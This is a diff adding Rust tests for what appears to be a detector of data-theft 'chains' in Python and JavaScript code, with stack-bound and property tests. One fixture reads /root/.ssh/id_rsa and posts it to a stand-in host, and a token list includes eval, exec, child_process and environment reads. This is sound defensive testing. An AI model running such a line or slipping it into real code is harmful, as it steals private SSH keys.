@@ -1,0 +1,115 @@
+//! Programs in, chains out.
+
+use super::{Dialect, LIMITS, chains};
+use crate::{Rule, shell::Start};
+use proptest::prelude::*;
+
+fn found(dialect: Dialect, text: &str) -> Vec<(Rule, u32)> {
+    let mut found: Vec<_> = chains(text, dialect, Start::Asked, &mut LIMITS.clone())
+        .into_iter()
+        .map(|chain| (chain.rule, chain.last_line()))
+        .collect();
+    found.dedup();
+    found
+}
+
+fn rules(dialect: Dialect, text: &str) -> Vec<Rule> {
+    let mut rules: Vec<_> = found(dialect, text).into_iter().map(|(rule, _)| rule).collect();
+    rules.dedup();
+    rules
+}
+
+/// Each text holds the chain of the rule.
+fn all_are(dialect: Dialect, rule: Rule, texts: &[&str]) {
+    for text in texts {
+        let found = rules(dialect, text);
+        assert!(found.contains(&rule), "{found:?} is not {rule:?}:\n{text}");
+    }
+}
+
+/// No text holds a chain that blocks.
+fn all_are_honest(dialect: Dialect, texts: &[&str]) {
+    for text in texts {
+        assert_eq!(rules(dialect, text), [], "{text}");
+    }
+}
+
+mod javascript;
+mod python;
+
+#[test]
+fn a_chain_names_its_steps_with_their_lines() {
+    let text = "import requests\n\ndata = open('/root/.ssh/id_rsa').read()\nrequests.post(\n    'https://vendor.example/x', data=data)\n";
+    let all = chains(text, Dialect::Python, Start::Asked, &mut LIMITS.clone());
+    let [chain] = all.as_slice() else { panic!("{all:?}") };
+    let steps: Vec<_> = chain.steps.iter().map(|step| (step.line, step.what.as_str())).collect();
+    assert_eq!(
+        steps,
+        [(3, "reads /root/.ssh/id_rsa"), (4, "sends it to https://vendor.example/…")]
+    );
+}
+
+#[test]
+fn hostile_nesting_is_bounded_and_said() {
+    let many = 10_000;
+    for (dialect, text) in [
+        (Dialect::JavaScript, "(".repeat(many)),
+        (Dialect::JavaScript, "a(".repeat(many) + &")".repeat(many)),
+        (Dialect::JavaScript, "[{a:".repeat(many)),
+        (Dialect::JavaScript, "`${".repeat(many)),
+        (Dialect::JavaScript, "x=>".repeat(many)),
+        (Dialect::JavaScript, "if(a)".repeat(many)),
+        (Dialect::JavaScript, "a?b:".repeat(many)),
+        (Dialect::JavaScript, "a.b".to_owned() + &".c()".repeat(many)),
+        (Dialect::JavaScript, "a=".repeat(many)),
+        (Dialect::JavaScript, "function f(){".repeat(many)),
+        (Dialect::JavaScript, "x=[x,x];".repeat(many)),
+        (Dialect::JavaScript, "x={a:x};x=x.y;".repeat(many)),
+        (Dialect::JavaScript, "class A{a=".repeat(many)),
+        (Dialect::JavaScript, "await!-".repeat(many)),
+        (Dialect::Python, "[".repeat(many)),
+        (Dialect::Python, "f'{".repeat(many)),
+        (Dialect::Python, "lambda:".repeat(many)),
+        (Dialect::Python, "if a:".repeat(many)),
+        (Dialect::Python, (0..3000).map(|n| format!("{}if a:\n", " ".repeat(n))).collect()),
+        (Dialect::Python, "x = [x]\nx = x + x\n".repeat(many / 4)),
+        (Dialect::Python, "not ".repeat(many)),
+        (Dialect::Python, "a if b else ".repeat(many)),
+        (Dialect::Python, "s = 'ab'\n".to_owned() + &"s = s + s\n".repeat(many / 4)),
+        (
+            Dialect::Python,
+            (0..40)
+                .map(|n| {
+                    format!("def f{n}(a):\n    return f{m}(a + 'x') + f{m}(a + 'y')\n", m = n + 1)
+                })
+                .collect::<String>()
+                + "f0('')\n",
+        ),
+    ] {
+        let thread = std::thread::Builder::new().stack_size(2 << 20);
+        let run = thread.spawn(move || chains(&text, dialect, Start::Asked, &mut LIMITS.clone()));
+        assert_eq!(run.unwrap().join().unwrap(), []);
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]
+    #[test]
+    fn any_text_is_read_on_a_small_stack(parts in proptest::collection::vec(prop_oneof![
+        proptest::sample::select(vec![
+            "(", ")", "[", "]", "{", "}", "`", "${", "'", "\"", "f'", "'''", "=>", "=", ":", ",", ";", ".", "?", "?.", "...",
+            "\n", "\n    ", "\n        ", "def f(a):", "class A:", "if", "else", "for x in", "for (const x of", "function f(a)", "return ",
+            "lambda a: ", "async ", "await ", "import os", "from os import system as s", "with open(p) as f:", "eval", "exec",
+            "require('child_process')", "process.env", "os.environ", "fetch(u)", ".then(", "x", "y", "self", "+", "%", "/", "<", ">", "\\", "[::-1]", "#", "//", "/*", "1", "0x41", "é",
+        ]).prop_map(str::to_owned),
+        any::<char>().prop_map(String::from),
+    ], 0..400)) {
+        let text = parts.concat();
+        for dialect in [Dialect::JavaScript, Dialect::Python] {
+            let text = text.clone();
+            let thread = std::thread::Builder::new().stack_size(2 << 20);
+            let run = thread.spawn(move || chains(&text, dialect, Start::Asked, &mut LIMITS.clone()));
+            prop_assert!(run.unwrap().join().is_ok());
+        }
+    }
+}
